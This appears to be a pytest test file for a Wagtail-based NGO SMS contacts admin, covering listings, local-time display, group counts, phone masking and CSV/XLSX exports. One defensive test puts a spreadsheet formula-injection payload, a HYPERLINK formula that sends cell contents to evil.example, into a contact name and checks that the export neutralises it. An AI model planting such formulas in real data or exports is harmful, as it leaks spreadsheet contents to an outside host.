"""The contacts screens as an NGO editor sees them (issue 9): where a name leads, readable
values, groups with counts, exports in the user's words and safe for spreadsheets."""

import csv
import datetime
import io
import re
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from wagtail_grantee_sms import verification
from wagtail_grantee_sms.models import Contact

from .factories import ContactFactory, ContactGroupFactory, SuperuserFactory, UserFactory

pytestmark = pytest.mark.django_db

Status = Contact.Status
JAKARTA = ZoneInfo("Asia/Jakarta")


def url(name, *args):
    return reverse(f"wagtailsnippets_wagtail_grantee_sms_contact:{name}", args=args)


@pytest.fixture
def admin_client(client):
    client.force_login(SuperuserFactory(first_name="Sari", last_name="Dewi"))
    return client


def test_the_contacts_name_in_the_list_leads_to_its_status_and_actions(admin_client):
    contact = ContactFactory(name="Ani Lubis")

    listing = admin_client.get(url("list")).content.decode()
    link = re.search(r'<a href="([^"]+)"[^>]*>\s*<span[^>]*>Ani Lubis', listing)

    assert link and link.group(1) == url("inspect", contact.pk)
    page = admin_client.get(link.group(1)).content.decode()
    assert "Unverified" in page
    assert url("send_verification", contact.pk) in page


def test_the_contact_page_shows_local_times_labels_and_a_dash_for_empty(admin_client):
    contact = ContactFactory(
        name="Ani",
        consent_source="",
        consent_given_at=datetime.datetime(2026, 12, 1, 23, 9, tzinfo=datetime.UTC),
        consent_note="",
    )
    page = admin_client.get(url("inspect", contact.pk)).content.decode()

    # 23:09 UTC is 06:09 the next morning in Jakarta, the site's time zone.
    assert "Dec. 2, 2026, 6:09 a.m." in page
    assert "11:09 p.m." not in page
    assert ">None<" not in page and "False" not in page
    assert "—" in page


def test_the_contact_page_is_in_the_active_languages_date_format(client):
    user = SuperuserFactory(first_name="Sari", last_name="Dewi")
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "id"
    profile.save()
    client.force_login(user)
    contact = ContactFactory(
        consent_given_at=datetime.datetime(2026, 12, 1, 23, 9, tzinfo=datetime.UTC)
    )

    page = client.get(url("inspect", contact.pk)).content.decode()

    assert "2 Des. 2026, 6.09" in page


def test_the_history_says_how_in_words_not_codes(admin_client):
    contact = ContactFactory(status=Status.PENDING)
    verification.mark_verified(contact, SuperuserFactory(), "Formulir kertas no. 12")
    contact.refresh_from_db()
    verification.opt_out(contact, reason="STOP")

    history = admin_client.get(url("inspect", contact.pk)).content.decode()
    history = history.split("data-contact-history", 1)[1].split("</table>", 1)[0]

    assert "Checked by hand: Formulir kertas no. 12" in history
    assert "SMS keyword from the contact: STOP" in history
    assert "manual:" not in history and "sms_keyword" not in history


def test_the_contacts_list_has_a_groups_column(admin_client):
    contact = ContactFactory(name="Ani")
    contact.groups.add(ContactGroupFactory(name="Relawan"), ContactGroupFactory(name="Donatur"))

    listing = admin_client.get(url("list")).content.decode()

    assert re.search(r"<th[^>]*>\s*(<a[^>]*>)?\s*Groups", listing)
    assert "Donatur, Relawan" in listing


def test_the_groups_list_counts_members_and_verified_members_in_one_query(admin_client):
    groups_url = reverse("wagtailsnippets_wagtail_grantee_sms_contactgroup:list")
    volunteers = ContactGroupFactory(name="Relawan")
    for status in (Status.VERIFIED, Status.VERIFIED, Status.PENDING):
        ContactFactory(status=status).groups.add(volunteers)
    ContactGroupFactory(name="Kosong")

    with CaptureQueriesContext(connection) as few:
        listing = admin_client.get(groups_url).content.decode()
    for n in range(10):
        ContactFactory().groups.add(ContactGroupFactory(name=f"Grup {n}"))
    with CaptureQueriesContext(connection) as many:
        admin_client.get(groups_url)

    row = listing.split("Relawan", 1)[1].split("</tr>", 1)[0]
    assert re.findall(r"<td[^>]*>\s*(\d+)\s*</td>", row) == ["3", "2"]
    assert len(many) == len(few)


def export(client, export_format="csv", **params):
    response = client.get(url("list"), {"export": export_format, **params})
    assert response.status_code == 200
    if export_format == "xlsx":
        return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_export_uses_labels_local_times_to_the_second_and_a_groups_header(admin_client):
    contact = ContactFactory(
        name="Ani",
        consent_source=Contact.ConsentSource.PAPER_FORM,
        consent_given_at=datetime.datetime(2026, 12, 1, 23, 9, 5, 123456, tzinfo=datetime.UTC),
    )
    contact.groups.add(ContactGroupFactory(name="Relawan"))

    header, row = export(admin_client)

    assert header[:5] == ["Name", "Phone number", "Status", "Preferred language", "Groups"]
    assert row[2:7] == ["Unverified", "Indonesian", "Relawan", "Paper form", "2026-12-02 06:09:05"]


def test_the_export_in_indonesian_uses_indonesian_labels(client):
    user = SuperuserFactory()
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "id"
    profile.save()
    client.force_login(user)
    ContactFactory(name="Ani", consent_source=Contact.ConsentSource.PAPER_FORM)

    header, row = export(client)

    assert header[4] == "Grup"
    assert row[2] == "Belum terverifikasi"


def test_the_export_keeps_codes_when_asked(admin_client):
    ContactFactory(name="Ani", consent_source=Contact.ConsentSource.PAPER_FORM)

    header, row = export(admin_client, codes="1")

    assert header[:5] == ["name", "phone", "status", "language", "groups"]
    assert row[2:4] == ["unverified", "id"]
    assert row[5] == "paper_form"
    assert "Download CSV with codes" in admin_client.get(url("list")).content.decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(admin_client, start):
    ContactFactory(name=f'{start}HYPERLINK("http://evil.example/?"&A1,"Klik")')

    header, *rows = export(admin_client)

    names = [row[0] for row in rows]
    assert names == [f'\'{start}HYPERLINK("http://evil.example/?"&A1,"Klik")']


def test_the_xlsx_export_has_local_times(admin_client):
    ContactFactory(
        consent_given_at=datetime.datetime(2026, 12, 1, 23, 9, 5, 500000, tzinfo=datetime.UTC)
    )

    header, row = export(admin_client, "xlsx")

    assert row[header.index("Consent given at")] == datetime.datetime(2026, 12, 2, 6, 9, 5)


def test_export_masks_numbers_without_view_full_phone_and_neutralises_them(client):
    ContactFactory(name="Ani", phone="+6281234567890")
    client.force_login(UserFactory(permissions=["change_contact", "export_contact"]))

    header, row = export(client)

    assert row[1] == "'+**********890"


def test_the_contact_page_says_why_a_contact_cannot_be_verified(admin_client):
    contact = ContactFactory(consent_source="", consent_given_at=None)

    page = admin_client.get(url("inspect", contact.pk)).content.decode()

    assert "No consent is recorded for this contact" in page
    assert url("send_verification", contact.pk) not in page
    assert url("mark_verified", contact.pk) not in page
    assert url("block", contact.pk) in page
